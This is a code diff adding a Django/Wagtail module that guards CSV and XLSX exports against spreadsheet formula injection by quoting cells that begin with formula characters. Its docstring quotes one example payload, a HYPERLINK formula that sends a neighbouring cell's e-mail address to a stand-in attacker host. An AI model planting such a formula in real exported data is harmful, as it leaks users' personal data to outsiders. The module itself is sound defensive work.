@@ -1,0 +1,119 @@
+"""Spreadsheet exports (CSV and XLSX) that open as data, never as formulas.
+
+A spreadsheet program reads a text cell that starts with =, +, -, @, a tab or a carriage return
+as a formula (OWASP, "CSV Injection"): a member whose display name is
+`=HYPERLINK("http://evil.example/?"&B2,"Click")` would otherwise send the next cell's e-mail
+address to a stranger when an admin opens the team export. Every export of the project writes
+its cells through this module:
+
+- CSV: such a cell gets a leading single quote, which Excel and LibreOffice read as "this is
+  text" and do not show; numbers, dates, booleans and empty cells are written as they are.
+- XLSX: such a cell is stored as a string with the cell style's quotePrefix set, the flag Excel
+  itself writes when someone types a leading quote: the value stays what the person typed, and
+  it stays text even when the cell is edited. Numbers stay numbers.
+
+Our own CSV views use `csv_writer` / `csv_response`; Wagtail's exports (the project's viewsets
+and reports, and Wagtail's own reports: aging and locked pages, site history, redirects, form
+submissions) go through SpreadsheetExportMixin, which `guard_wagtail_exports` routes here once
+at start-up (AcademyConfig.ready).
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime
+from collections.abc import Iterable
+from decimal import Decimal
+from typing import Any
+
+from django.http import HttpResponse
+from django.utils.functional import Promise
+
+# OWASP's list: what makes Excel, LibreOffice Calc or Google Sheets start a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+# Cell values a spreadsheet stores as numbers, dates or booleans, never as text.
+TYPED = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)
+
+
+def looks_like_formula(value: Any) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def csv_cell(value: Any) -> Any:
+    """The value to write into a CSV cell: numbers, dates, booleans and None as they are;
+    anything else as text, with a leading quote when a spreadsheet would run it."""
+    if value is None or isinstance(value, TYPED):  # bool is an int
+        return value
+    text = str(value) if isinstance(value, Promise) or not isinstance(value, str) else value
+    return QUOTE + text if looks_like_formula(text) else text
+
+
+def csv_text(cell: str) -> str:
+    """What a cell read back from one of our CSV exports held before `csv_cell` quoted it
+    (for importers of our own files: the question bank's CSV)."""
+    if cell.startswith(QUOTE) and looks_like_formula(cell[1:]):
+        return cell[1:]
+    return cell
+
+
+class GuardedWriter:
+    """csv.writer whose rows go through csv_cell."""
+
+    def __init__(self, file, **options):
+        self._writer = csv.writer(file, **options)
+
+    def writerow(self, row: Iterable[Any]):
+        return self._writer.writerow([csv_cell(value) for value in row])
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(file, **options) -> GuardedWriter:
+    return GuardedWriter(file, **options)
+
+
+def csv_response(filename: str) -> tuple[HttpResponse, GuardedWriter]:
+    """A CSV download and the writer for its rows. It starts with a byte-order mark: Excel
+    opens UTF-8 Chinese text correctly only with one."""
+    response = HttpResponse(content_type="text/csv; charset=utf-8")
+    response["Content-Disposition"] = f'attachment; filename="{filename}"'
+    response.write("\ufeff")
+    return response, csv_writer(response)
+
+
+def guard_xlsx_cell(cell):
+    """An openpyxl cell whose text would read as a formula, kept as quoted text."""
+    if looks_like_formula(cell.value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
+def guard_wagtail_exports() -> None:
+    """Send every SpreadsheetExportMixin export (CSV and XLSX) through this module.
+
+    Wagtail's own reports cannot take a project mixin, so the two methods every export passes
+    through are wrapped on the mixin itself: preprocess_field_value gives each cell's final
+    value (CSV), generate_xlsx_row builds each XLSX row's cells. Safe to call twice.
+    """
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin as Mixin
+
+    if getattr(Mixin, "_academy_guarded", False):
+        return
+    preprocess_field_value = Mixin.preprocess_field_value
+    generate_xlsx_row = Mixin.generate_xlsx_row
+
+    def guarded_preprocess_field_value(self, field, value, export_format):
+        value = preprocess_field_value(self, field, value, export_format)
+        return csv_cell(value) if export_format == self.FORMAT_CSV else value
+
+    def guarded_generate_xlsx_row(self, worksheet, row_dict, date_format=None):
+        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
+            yield guard_xlsx_cell(cell)
+
+    Mixin.preprocess_field_value = guarded_preprocess_field_value
+    Mixin.generate_xlsx_row = guarded_generate_xlsx_row
+    Mixin._academy_guarded = True
